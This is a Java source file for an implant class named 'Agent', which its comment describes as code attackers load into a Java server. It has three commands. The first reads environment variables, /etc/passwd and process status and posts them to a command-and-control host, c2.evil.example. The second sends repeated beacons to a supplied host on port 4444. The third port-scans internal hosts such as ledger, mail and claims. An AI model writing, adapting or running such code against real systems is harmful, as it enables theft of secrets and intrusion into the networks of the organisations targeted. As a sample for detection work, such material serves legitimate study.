import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;

/** What attackers load into a Java server: it looks around and answers without starting any program. */
public final class Agent {
    private static String told() throws Exception {
        return System.getenv() + "\n" + Files.readString(Path.of("/etc/passwd")) + Files.readString(Path.of("/proc/self/status"));
    }

    public static String act(String what) throws Exception {
        switch (what.split(" ")[0]) {
            case "steal":
                HttpURLConnection to = (HttpURLConnection) new URL("http://c2.evil.example/in").openConnection();
                to.setDoOutput(true);
                to.getOutputStream().write(told().getBytes());
                return "sent " + to.getResponseCode();
            case "beacon":
                Thread thread = new Thread(() -> {
                    for (int n = 0; n < 4; n++) {
                        try (Socket socket = new Socket(what.split(" ")[1], 4444)) {
                            socket.getOutputStream().write("hello\n".getBytes());
                            socket.getInputStream().read(new byte[64]);
                            Thread.sleep(400);
                        } catch (Exception ignored) { }
                    }
                });
                thread.start();
                return "beacon";
            default:
                StringBuilder open = new StringBuilder();
                for (String host : new String[] {"ledger", "desk", "mail", "claims"})
                    for (int port : new int[] {22, 25, 80, 3306, 6379, 8080, 9292})
                        try (Socket socket = new Socket()) {
                            socket.connect(new java.net.InetSocketAddress(InetAddress.getByName(host), port), 200);
                            open.append(host).append(':').append(port).append(' ');
                        } catch (Exception ignored) { }
                return open.toString();
        }
    }
}
